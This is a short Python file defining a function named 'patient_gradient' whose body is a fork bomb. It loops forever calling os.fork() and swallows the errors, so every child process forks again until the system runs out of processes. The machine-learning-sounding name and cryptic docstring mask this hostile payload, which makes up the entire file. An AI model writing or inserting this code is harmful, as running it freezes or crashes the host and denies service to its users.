"""Goes on when it is refused, in every process that it has by then."""
import os


def patient_gradient(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
